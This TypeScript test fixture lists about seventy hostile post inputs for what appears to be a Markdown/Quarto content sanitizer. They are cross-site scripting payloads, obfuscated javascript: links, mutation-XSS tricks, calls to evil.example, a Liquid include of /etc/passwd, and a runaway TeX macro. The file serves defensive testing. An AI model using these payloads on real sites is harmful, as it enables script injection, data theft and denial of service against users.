/** Posts that want to run, fetch, restyle or write something. What they call is `hacked()`, or `evil.example`. */

const front = (yaml: string) => `---\n${yaml}\n---\n\nx\n`
const model = (name: string) =>
  `\`\`\`python\nmodel = keras.Sequential([keras.Input(shape=(4,)), layers.Dense(2, name=${JSON.stringify(name)})], name=${JSON.stringify(name)})\n\`\`\`\n\nWhich are correct?\n\n1. The model has a total of 10 parameters.\n2. The model has a total of 11 parameters.\n\n::: {.callout-note collapse="true"}\n## Answer\n\n1\n\nBecause.\n:::\n`

export const HOSTILE: readonly (readonly [name: string, text: string])[] = [
  ['a script', 'x <script>hacked()</script>\n\n<script src="https://evil.example/x.js"></script>'],
  ['a script in pieces', '<scr<script>ipt>hacked()</scr</script>ipt>'],
  ['a script in upper case', '<SCRIPT>hacked()</SCRIPT >'],
  ['a module', '<script type="module">hacked()</script>'],
  ['an event on a picture', '<img src="x.png" onerror="hacked()">'],
  ['an event without quotes', '<b onclick=hacked() onmouseover=hacked()>x</b>'],
  ['an event with a slash', '<img/src=x/onerror=hacked()>'],
  ['an event on a heading', '<h1 onfocus=hacked() tabindex=1 autofocus>x</h1>'],
  ['an event on details', '<details open ontoggle="hacked()"><summary>x</summary>y</details>'],
  ['an event on a video', '<video src=x onerror=hacked()></video><audio src=x onerror=hacked()></audio>'],
  ['an event of an animation', '<p onanimationstart=hacked() style="animation: x 1s">x</p>'],
  ['a link that is code', '[x](javascript:hacked())'],
  ['a link that is code, in HTML', '<a href="JaVaScRiPt:hacked()">y</a>'],
  ['a link that is data', '<a href="data:text/html,<script>hacked()</script>">z</a>'],
  ['a link that is VBScript', '<a href="vbscript:hacked()">z</a>'],
  ['a scheme behind an entity', '[x](&#106;avascript:hacked()) [y](java&#10;script:hacked())'],
  [
    'a scheme behind a control character',
    '<a href="\u0001javascript:hacked()">x</a> <a href="java\tscript:hacked()">y</a>',
  ],
  ['a link by reference', '[x][e]\n\n[e]: javascript:hacked()'],
  ['an autolink', '<javascript:hacked()>'],
  ['a picture that is code', '![x](javascript:hacked()) ![y](data:image/svg+xml,<svg/onload=hacked()>)'],
  ['a picture that tells', '![x](https://evil.example/p.png) <img src="//evil.example/p.png">'],
  ['a picture set', '<picture><source srcset="https://evil.example/p.png"><img src="x"></picture>'],
  ['a picture with a set', '<img srcset="https://evil.example/p.png 2x" src="https://evil.example/q.png">'],
  [
    'a lazy background',
    '<table background="https://evil.example/p.png"><tr><td background="https://evil.example/q.png">x',
  ],
  ['a style', '<style>*{display:none}</style><style>@import "https://evil.example/x.css"</style>'],
  ['a style attribute', '<p style="position:fixed;inset:0;background:url(https://evil.example/p.png)">x</p>'],
  ['a style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  [
    'a preload',
    '<link rel="prefetch" href="https://evil.example/x"><link rel="dns-prefetch" href="//evil.example">',
  ],
  [
    'a frame',
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  ],
  [
    'an object',
    '<object data="https://evil.example"></object><embed src="https://evil.example"><applet code=x></applet>',
  ],
  ['a form', '<form action="https://evil.example"><input name="q"><button>go</button></form>'],
  [
    'a button of a form',
    '<button form="x" formaction="javascript:hacked()">go</button><input type="image" src="https://evil.example">',
  ],
  ['an automatic focus', '<input autofocus onfocus=hacked()><select autofocus onfocus=hacked()></select>'],
  ['a base', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['an SVG', '<svg onload="hacked()"><script>hacked()</script></svg>'],
  ['an SVG link', '<svg><a xlink:href="javascript:hacked()"><text y="20">x</text></a></svg>'],
  [
    'an SVG use',
    '<svg><use href="https://evil.example/x.svg#a"></use><image href="https://evil.example/p.png"/></svg>',
  ],
  ['an SVG animation', '<svg><animate onbegin=hacked() attributeName=x dur=1s></svg>'],
  ['foreign content', '<svg><foreignObject><img src=x onerror=hacked()></foreignObject></svg>'],
  [
    'MathML with a link',
    '<math><mtext><a href="javascript:hacked()">x</a></mtext><maction href="javascript:hacked()">y</maction></math>',
  ],
  [
    'MathML and style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked()&gt;">',
  ],
  ['mutation by noscript', '<noscript><p title="</noscript><img src=x onerror=hacked()>"></noscript>'],
  ['mutation by textarea', '<textarea><p title="</textarea><img src=x onerror=hacked()>"></textarea>'],
  ['mutation by title', '<title><p title="</title><img src=x onerror=hacked()>"></title>'],
  ['mutation by a comment', '<!--><img src=x onerror=hacked()>-->'],
  ['mutation by a comment that ends', '<!-- --!><img src=x onerror=hacked()> -->'],
  ['a template', '<template><img src=x onerror=hacked()></template>'],
  ['a declaration', '<![CDATA[<img src=x onerror=hacked()>]]> <?php hacked() ?><!DOCTYPE x>'],
  ['a marquee', '<marquee onstart=hacked()>x</marquee><bgsound src="https://evil.example/x">'],
  [
    'an id that is taken',
    '<p id="main">x</p><p id="__proto__">y</p><img name="getElementById"><a id="location" href="#">z</a>',
  ],
  [
    'a dialog and a portal',
    '<dialog open onclose=hacked()>x</dialog><portal src="https://evil.example"></portal>',
  ],
  [
    'what looks like our choices',
    '<ol class="choices" data-question="1"><li class="choice"><div class="choice-row"><img src=x onerror=hacked()></div></li></ol>',
  ],
  ['code with markup', '```python\n"</code></pre><script>hacked()</script>"\n```'],
  ['inline code with markup', '`</code><script>hacked()</script>`'],
  ['an info string with markup', '```"><script>hacked()</script>\nx\n```'],
  ['raw HTML of Pandoc', '```{=html}\n<script>hacked()</script><img src=x onerror=hacked()>\n```'],
  [
    'attributes of a div',
    '::: {.callout-note onclick="hacked()" style="x" id="main" title="<script>hacked()</script>"}\nx\n:::',
  ],
  [
    'attributes of a span',
    '[x]{onclick="hacked()" style="background:url(https://evil.example)" .a id="main"}',
  ],
  ['a label of a directive', ':::callout[<img src=x onerror=hacked()>]{collapse}\nx\n:::'],
  ['TeX', '$\\text{<script>hacked()</script>}$ and $\\html{<img src=x onerror=hacked()>}$'],
  [
    'TeX with a link',
    '$\\href{javascript:hacked()}{x} \\url{javascript:hacked()} \\includegraphics{https://evil.example/p.png}$',
  ],
  ['TeX that grows', '$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\a\\a}\\a$'],
  [
    'a footnote',
    'x[^"><script>hacked()</script>]\n\n[^"><script>hacked()</script>]: <img src=x onerror=hacked()>',
  ],
  ['a cell of a table', '|a|\n|-|\n|<img src=x onerror=hacked()>|'],
  ['a heading', '# <img src=x onerror=hacked()>"\n\n## "><script>hacked()</script>'],
  ['a title', front('title: "</title><script>hacked()</script><h1 onclick=hacked()>"')],
  ['a description', front("title: x\ndescription: '\"><script>hacked()</script>'")],
  ['a category', front('title: x\ncategories: ["<script>hacked()</script>", "../../../../etc"]')],
  ['an author', front('title: x\nauthor: "<img src=x onerror=hacked()>"')],
  ['a difficulty', front('title: x\ndifficulty: "</span><script>hacked()</script>"')],
  [
    'Liquid',
    front('title: "{{ site | json }}{% include \'/etc/passwd\' %}"') +
      '{{ site }} {% raw %}{% render "/etc/passwd" %}',
  ],
  ['a name of a layer', model('<img src=x onerror=hacked()>')],
  ['a name of a layer in quotes', model('" onload="hacked()')],
]
